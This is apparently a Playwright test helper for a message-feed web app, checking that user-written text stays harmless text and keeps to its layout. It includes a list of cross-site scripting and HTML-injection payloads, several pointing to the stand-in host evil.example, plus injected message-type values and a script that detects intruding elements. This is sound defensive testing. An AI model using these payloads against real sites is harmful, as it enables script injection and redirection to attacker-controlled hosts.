"""What strangers write to harm, and how a page is searched for the harm it did."""

from collections.abc import Iterator
from contextlib import contextmanager

from playwright.sync_api import BrowserContext, Page, Route, expect

WIDTHS = (1280, 320)
MARK = "window.ran = true"
# Each sets the mark, or asks a foreign host for something, if it is taken for more than text.
ATTACKS = (
    f"<script>{MARK}</script>",
    f"</script><script>{MARK}</script>",
    f'<img src="https://evil.example/1.png" onerror="{MARK}">',
    f'"><svg onload="{MARK}"><use href="https://evil.example/2.svg#a"/></svg>',
    f"' onmouseover='{MARK}' onfocus='{MARK}' autofocus tabindex='1",
    '" hx-get="https://evil.example/3" hx-trigger="load" data-x="',
    f"<div hx-on:htmx:load=\"{MARK}\" hx-get='https://evil.example/4' hx-trigger='load'></div>",
    "<iframe src=https://evil.example/5></iframe><object data=https://evil.example/6></object>",
    '<link rel="stylesheet" href="https://evil.example/7.css"><style>body{display:none}</style>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/8">',
    '<base href="//evil.example"><marquee><blink>',
    f"</article></section></main></body><body onload='{MARK}'><plaintext>",
    f"</textarea></title></template></select><img src=x onerror='{MARK}'><!--",
    f"<a href=\"javascript:{MARK}\" style='position:fixed;inset:0'>all over</a>",
    f"javascript:{MARK} data:text/html,<script>{MARK}</script>",
    f"{{% include 'x' %}} {{{{ {MARK} }}}} ${{{MARK}}}",
    "\u202eoverride\u202c \u2067isolate " + "Z" + "\u0351\u036b\u0343" * 3,
    "W" * 4000,
)
LINES = "\n".join(ATTACKS)
KINDS = (
    "TYPE_SMS",
    "TYPE_EMAIL",
    "TYPE_CALL",
    "TYPE_VOICEMAIL",
    "TYPE_INTERNAL_COMMENT",
    "TYPE_REVIEW",
    "TYPE_FORM_SUBMISSION",
    "TYPE_ACTIVITY_OPPORTUNITY",
    "TYPE_NO_SHOW",
    f'TYPE_"><img src=x onerror="{MARK}">',
    f"TYPE_ACTIVITY_<script>{MARK}</script>",
)
# Elements no stranger's words may make, scripts in attributes, and what would load from elsewhere.
INTRUDERS = """() => {
  const elsewhere = (address) => new URL(address, location).origin !== location.origin;
  const scripted = /^\\W*(javascript|data|vbscript)/i;
  const made = "script, style, link, meta, base, object, embed, marquee, plaintext, area";
  return [...document.querySelectorAll("body *")].filter((element) => {
    const value = (name) => element.getAttribute(name) ?? "";
    return element.matches(made)
      || [...element.attributes].some(({ name }) => /^(on|style$|srcset$|data-hx|hx-on)/.test(name))
      || ["href", "src", "action"].some((name) => scripted.test(value(name)))
      || ["src", "poster", "action", "hx-get"].some((name) => elsewhere(value(name)));
  }).map((element) => element.outerHTML.slice(0, 200));
}"""
BOXES = "(all) => all.map((element) => element.getBoundingClientRect().toJSON())"
# Lays out what is off screen, too: skipped rows have no true boxes.
LAY_OUT = """() => document.querySelectorAll("[data-settled]")
  .forEach((day) => day.removeAttribute("data-settled"))"""
# Text by its lines, elements by their boxes: what lies outside its own message or the feed.
STRAYS = """() => {
  const SLACK = 4; // the button in the gutter stands out a little
  const NAMES = ".source, .message__head > b, .note__head > b, .card__title, .activity, "
    + ".message__problem";
  const feed = document.querySelector("[data-thread]").getBoundingClientRect();
  const range = document.createRange();
  const boxes = (node) => {
    if (node.nodeType === Node.ELEMENT_NODE) return [node.getBoundingClientRect()];
    range.selectNodeContents(node);
    return [...range.getClientRects()];
  };
  const within = (inner, outer) => inner.left >= outer.left - 1 && inner.right <= outer.right + 1
    && inner.top >= outer.top - SLACK && inner.bottom <= outer.bottom + SLACK;
  const strays = [];
  for (const article of document.querySelectorAll("article[data-message-id]")) {
    const own = article.getBoundingClientRect();
    if (!within(own, feed)) strays.push(`all of ${article.id}`);
    const kinds = NodeFilter.SHOW_ELEMENT | NodeFilter.SHOW_TEXT;
    const walker = document.createTreeWalker(article, kinds);
    while (walker.nextNode()) {
      const node = walker.currentNode;
      const element = node.nodeType === Node.ELEMENT_NODE ? node : node.parentElement;
      if (element.closest(".visually-hidden") || !element.checkVisibility()) continue;
      if (node.parentElement.closest(".raw")) continue; // scrolls by itself
      if (node.parentElement.closest(NAMES)) continue; // cut off where they are long
      const drawn = boxes(node).filter(({ width, height }) => width > 1 && height > 1);
      const stray = drawn.find((box) => !within(box, own));
      if (stray) {
        const past = ["left", "right", "top", "bottom"].map((side) => stray[side] - own[side]);
        const words = node.textContent.slice(0, 60);
        strays.push(`${article.id} ${element.tagName} .${element.className} ${past} ${words}`);
      }
    }
  }
  return strays;
}"""


@contextmanager
def alone(context: BrowserContext, site: str) -> Iterator[list[str]]:
    """Let no request of a context through to another host; give what was asked for there."""
    asked: list[str] = []
    own: list[str] = []

    def look(route: Route) -> None:
        address = route.request.url
        if address.startswith((f"{site}/", "data:")):
            own.append(address)
            route.continue_()
        else:
            asked.append(address)
            route.abort()

    context.route("**/*", look)
    yield asked
    assert own  # it did look
    assert asked == []


def assert_harmless(page: Page) -> None:
    """Check that nothing strangers wrote became anything but text."""
    assert page.evaluate("window.ran") is None
    assert page.title() != "owned"
    intruders = page.evaluate(INTRUDERS)
    assert intruders == [], intruders
    links: list[str] = page.locator("main a[href]").evaluate_all(
        "(all) => all.map((link) => link.protocol)"
    )
    assert set(links) <= {"http:", "https:", "mailto:", "tel:", ":"}  # the last one leads nowhere


def assert_in_place(page: Page) -> None:
    """Check that no message draws beyond its own place, in wide windows and narrow ones."""
    expect(page.locator(".day:not([data-settled])")).to_have_count(0)
    page.evaluate(LAY_OUT)
    for width in WIDTHS:
        page.set_viewport_size({"width": width, "height": 720})
        strays = page.evaluate(STRAYS)[:12]
        assert strays == [], strays


def open_all(page: Page) -> None:
    """Open every disclosure, since what it holds must be harmless as well."""
    page.locator("details").evaluate_all("(all) => all.forEach((one) => (one.open = true))")
    page.locator(".fold > input").evaluate_all("(all) => all.forEach((box) => box.click())")
